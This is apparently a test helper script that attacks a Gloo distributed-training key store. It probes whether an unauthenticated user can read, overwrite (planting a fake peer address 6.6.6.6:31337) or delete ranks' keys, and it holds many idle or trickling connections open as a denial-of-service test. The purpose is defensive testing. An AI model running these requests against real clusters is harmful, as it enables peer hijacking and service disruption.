#!/usr/bin/env python3
"""gloo_attack.py ADDR PORT probe | ADDR PORT idle|trickle N - what another
user tries against the Gloo store (t_gloo_auth.sh): read, steer and delete
the ranks' keys, or hold N connections until killed (at most 120 s).
probe prints each answer's status or "refused" (closed unanswered)."""
import socket, sys, time
a, p, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]

def ask(req):
    try:
        with socket.create_connection((a, p), timeout=10) as s:
            s.sendall(req)
            data = s.recv(4096)
    except OSError:
        return "refused"
    return data.split(b" ")[1].decode() if data else "refused"

if mode == "probe":
    print("get", ask(b"GET /global_/0 HTTP/1.1\r\nContent-Length: 0\r\n\r\n"),
          "put", ask(b"PUT /global_/1 HTTP/1.1\r\nContent-Length: 13\r\n\r\n6.6.6.6:31337"),
          "delete", ask(b"DELETE /global_/0 HTTP/1.1\r\nContent-Length: 0\r\n\r\n"))
    sys.exit(0)

# flood: hold n connections until killed: "idle" sends nothing,
# "trickle" one byte of a request every 2 s; every 2 s the ones the
# server closed are opened again
import select
n = int(sys.argv[4])
req = b"PUT /global_/1 HTTP/1.1\r\nContent-Length: 13\r\n\r\n6.6.6.6:31337" * 100

def conn():
    try:
        return socket.create_connection((a, p), timeout=5)
    except OSError:
        return None

socks = [conn() for _ in range(n)]
sent = [0] * n
print("holding", sum(s is not None for s in socks), flush=True)
end = time.monotonic() + 120
while time.monotonic() < end:
    time.sleep(2)
    pl = select.poll()
    for i, s in enumerate(socks):
        if s is not None:
            pl.register(s.fileno(), select.POLLIN)
    dead = set()
    fds = {s.fileno(): i for i, s in enumerate(socks) if s is not None}
    for fd, ev in pl.poll(0):
        i = fds[fd]
        try:
            if not socks[i].recv(4096):
                dead.add(i)
        except OSError:
            dead.add(i)
    for i in range(n):
        if socks[i] is None or i in dead:
            if socks[i] is not None:
                socks[i].close()
            socks[i], sent[i] = conn(), 0
        elif mode == "trickle":
            try:
                socks[i].send(req[sent[i]:sent[i] + 1])
                sent[i] += 1
            except OSError:
                pass
